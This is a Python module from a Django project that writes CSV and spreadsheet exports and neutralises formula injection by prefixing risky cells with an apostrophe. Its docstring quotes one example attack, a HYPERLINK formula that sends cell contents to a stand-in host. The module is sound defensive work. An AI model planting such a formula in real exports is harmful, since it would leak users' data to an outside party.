"""The one way Puente writes CSV files and spreadsheet cells, with the one formula rule.

A spreadsheet (Excel, LibreOffice, Google Sheets) runs a cell that starts with ``=``, ``+``,
``-`` or ``@`` as a formula: ``=HYPERLINK("http://evil.example/?"&A1,"click")`` planted in an
abuse report or a people list would send the rows of whoever opens the export to a stranger.
Every CSV and every XLSX cell Puente produces goes through :func:`defuse`:

- a text cell whose first character, after any leading white space (Unicode spaces and
  zero-width characters included), is ``=``, ``+``, ``-``, ``@``, a tab, a carriage return or a
  line feed, **or one of their Unicode look-alikes** (full-width ``＝ ＋ － ＠``, small forms
  ``﹦ ﹢ ﹣ ﹫``, super- and subscript ``⁼ ⁺ ⁻ ₌ ₊ ₋``, the minus sign ``−`` and the other dashes
  ``‐ ‑ ‒ – — ―``: anything NFKC folds to one of the four, and the dashes some spreadsheets read
  as minus) gets a leading apostrophe, which every spreadsheet shows as text;
- numbers (``int``, ``float``, ``Decimal``) are left alone, and so is a text made only of ASCII
  digits, spaces and ``+ - ( ) . , /`` (``-12.50``, a phone ``+502 7764 0000``): without a letter,
  a quote or a reference operator no function can be called and no cell read, so it cannot
  leak anything, and amounts and phones stay as they are;
- everything else is written as it is.

``tests/test_security_exports.py`` fails when code outside this module writes CSV another way
(``csv.writer``/``csv.DictWriter``) or sends a download without :func:`attachment`.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

from django.http import HttpResponse, StreamingHttpResponse
from django.utils.http import content_disposition_header

__all__ = [
    "is_formula", "defuse", "defuse_row", "writer", "csv_text", "csv_response", "csv_stream", "attachment", "xlsx_cell",
]

#: What starts a formula once folded (NFKC) ...
_TRIGGERS = frozenset("=+-@")
#: ... control characters that do too ...
_CONTROL = frozenset("\t\r\n")
#: ... and dashes NFKC leaves alone but spreadsheets (or people) read as a minus.
_DASHES = frozenset("\u2212\u2010\u2011\u2012\u2013\u2014\u2015\u2796\u2e3a\u2e3b\ufe58")
#: Leading characters skipped before the test (spreadsheets ignore them too).
_INVISIBLE = frozenset("\u200b\u200c\u200d\u2060\ufeff")
#: Texts that cannot call a function or read a cell (numbers, phones, amounts).
_HARMLESS = re.compile(r"^[0-9 +\-().,/]+$")


def is_formula(text: str) -> bool:
    """True when a spreadsheet could run ``text`` (the rule above, before the harmless exception)."""
    return _starts_formula(text) and not _HARMLESS.match(text.strip())


def _starts_formula(text: str) -> bool:
    for ch in text:
        if ch in _CONTROL:
            return True
        if ch.isspace() or ch in _INVISIBLE:
            continue
        if ch in _DASHES:
            return True
        folded = unicodedata.normalize("NFKC", ch)
        return folded[:1] in _TRIGGERS
    return False


def defuse(value: Any) -> Any:
    """``value`` as a safe cell: text that a spreadsheet would run gets a leading apostrophe;
    ``None`` becomes ""; numbers, dates and booleans are returned unchanged (for XLSX; the CSV
    writer turns them into text itself)."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float | Decimal):
        return value
    if not isinstance(value, str):
        if hasattr(value, "isoformat"):  # dates and times
            return value
        value = str(value)
    if is_formula(value):
        return "'" + value
    return value


def defuse_row(row: Iterable[Any]) -> list[Any]:
    return [defuse(v) for v in row]


def xlsx_cell(value: Any) -> Any:
    """A value for an openpyxl cell (``ws.append([xlsx_cell(v) for v in row])``): the same rule."""
    return defuse(value)


class _Writer:
    """``csv.writer`` with every cell defused (``writerow``/``writerows`` return what the file's
    ``write`` returns, so that a streaming response can yield them)."""

    def __init__(self, fileobj, **fmt: Any):
        self._writer = csv.writer(fileobj, **fmt)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow(defuse_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(fileobj, **fmt: Any) -> _Writer:
    """The CSV writer for files and responses (``csv.writer``'s arguments)."""
    return _Writer(fileobj, **fmt)


def csv_text(rows: Iterable[Iterable[Any]], *, bom: bool = False) -> str:
    """Rows as CSV text; ``bom=True`` starts it with a byte-order mark (Excel then reads UTF-8)."""
    out = io.StringIO()
    if bom:
        out.write("\ufeff")
    writer(out).writerows(rows)
    return out.getvalue()


def attachment(response, filename: str):
    """Mark ``response`` a download named ``filename`` (RFC 6266: ``filename*`` in UTF-8 when the
    name is not plain ASCII, so that "declaración_Ñandú_王小明.pdf" keeps its name and the
    response stays an attachment), private and not cached. Returns the response."""
    response["Content-Disposition"] = content_disposition_header(True, filename)
    response["Cache-Control"] = "private, no-store"
    response["X-Content-Type-Options"] = "nosniff"
    return response


def csv_response(rows: Iterable[Iterable[Any]], filename: str, *, bom: bool = False) -> HttpResponse:
    """A CSV download of ``rows``."""
    response = HttpResponse(csv_text(rows, bom=bom), content_type="text/csv; charset=utf-8")
    return attachment(response, filename)


class _Echo:
    def write(self, value):
        return value


def csv_stream(rows: Iterable[Iterable[Any]], filename: str) -> StreamingHttpResponse:
    """A CSV download of ``rows`` streamed row by row (large exports)."""
    echo = writer(_Echo())
    response = StreamingHttpResponse((echo.writerow(row) for row in rows), content_type="text/csv; charset=utf-8")
    return attachment(response, filename)
